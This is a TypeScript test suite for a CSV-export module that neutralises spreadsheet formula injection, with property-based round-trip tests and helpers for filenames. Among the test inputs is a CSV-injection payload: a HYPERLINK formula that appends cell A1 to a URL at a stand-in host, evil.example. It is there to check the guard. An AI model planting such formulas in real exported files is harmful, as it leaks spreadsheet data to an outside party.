import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
	asciiSlug,
	attachmentDisposition,
	restoreCell,
	safeCell,
	spreadsheetCsv
} from './csv-safe';
import { HOSTILE_CELLS } from './testing/hostile-cells';

describe('safeCell', () => {
	it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x","y")'])(
		'prefixes %j with a quote',
		(value) => {
			expect(safeCell(value)).toBe(`'${value}`);
		}
	);

	it('leaves ordinary text, Chinese and emoji alone', () => {
		expect(safeCell('Stretch, breathe')).toBe('Stretch, breathe');
		expect(safeCell('大嚼家 🐶')).toBe('大嚼家 🐶');
		expect(safeCell('a=b')).toBe('a=b');
		expect(safeCell('')).toBe('');
	});

	it('turns null into an empty cell', () => {
		expect(safeCell(null)).toBe('');
		expect(safeCell(undefined)).toBe('');
	});
});

describe('safeCell after a separator inside the cell', () => {
	// Excel in German or French splits on `;`, others on `,` or tab: each would start a new cell
	// right after the separator, so a formula start there is guarded too (OWASP, CSV injection).
	it.each([
		['x;=1+1', "x;'=1+1"],
		[
			'a,=HYPERLINK("http://evil.example/?"&A1,"x")',
			`a,'=HYPERLINK("http://evil.example/?"&A1,"x")`
		],
		['\t=1', "'\t'=1"],
		['x; @SUM(A1)', "x; '@SUM(A1)"],
		['a;-2+3;+4', "a;'-2+3;'+4"],
		['name\t\r=1', "name\t'\r=1"],
		['  =1', "  '=1"],
		["'=1", "''=1"],
		["x;''+1", "x;'''+1"]
	])('guards %j as %j', (value, guarded) => {
		expect(safeCell(value)).toBe(guarded);
		expect(restoreCell(guarded)).toBe(value);
	});

	it('leaves separators followed by anything else alone', () => {
		for (const text of ['Stretch, breathe; repeat', 'Etc/GMT+5', 'a=b;c', 'x-y, z', "it's; fine"]) {
			expect(safeCell(text)).toBe(text);
		}
	});

	const alphabet = [',', ';', '\t', ' ', "'", '=', '+', '-', '@', '\r', '\n', 'a', '"'];
	const cells = fc.array(fc.constantFrom(...alphabet), { maxLength: 16 }).map((a) => a.join(''));

	it('leaves no formula start where any separator would begin a cell', () => {
		fc.assert(
			fc.property(cells, (text) => {
				const guarded = safeCell(text);
				expect(guarded).not.toMatch(/^ *[=+\-@\t\r]/);
				for (const piece of guarded.split(/[,;\t]/)) expect(piece).not.toMatch(/^ *[=+\-@\r]/);
			})
		);
	});

	it('reads back exactly what it guarded, whatever the cell holds', () => {
		fc.assert(
			fc.property(cells, (text) => {
				expect(restoreCell(safeCell(text))).toBe(text);
			})
		);
	});

	it.each(Object.entries(HOSTILE_CELLS))(
		'guards a 100 kB cell of %s in under a second',
		(_, cell) => {
			const started = performance.now();
			expect(restoreCell(safeCell(cell))).toBe(cell);
			expect(performance.now() - started).toBeLessThan(1000);
		}
	);
});

describe('spreadsheetCsv', () => {
	it('quotes every cell, headers too, and doubles quotes inside', () => {
		const csv = spreadsheetCsv(
			['name', 'n'],
			[
				[safeCell('x;=1+1'), '-12'],
				['say "hi"', '3']
			]
		);
		expect(csv).toBe(`"name","n"\r\n"x;'=1+1","-12"\r\n"say ""hi""","3"`);
		expect(Papa.parse(csv).data).toEqual([
			['name', 'n'],
			["x;'=1+1", '-12'],
			['say "hi"', '3']
		]);
	});
});

describe('restoreCell', () => {
	it('undoes safeCell and leaves every other apostrophe alone', () => {
		for (const text of ['=SUM(A1)', '+86 138', '-5%', '@here', "'Tis the season", 'plain', "'"]) {
			expect(restoreCell(safeCell(text))).toBe(text);
		}
		expect(restoreCell("'hello")).toBe("'hello");
	});
});

describe('asciiSlug', () => {
	it('keeps ASCII words only', () => {
		expect(asciiSlug('大嚼家 BigChew')).toBe('bigchew');
		expect(asciiSlug('Bump & Bloom Café')).toBe('bump-bloom-cafe');
	});

	it('falls back when nothing ASCII is left', () => {
		expect(asciiSlug('大嚼家')).toBe('export');
	});
});

describe('attachmentDisposition', () => {
	it('gives an ASCII filename and the real name encoded', () => {
		expect(attachmentDisposition('bigchew.csv', '大嚼家 BigChew.csv')).toBe(
			`attachment; filename="bigchew.csv"; filename*=UTF-8''%E5%A4%A7%E5%9A%BC%E5%AE%B6%20BigChew.csv`
		);
	});
});
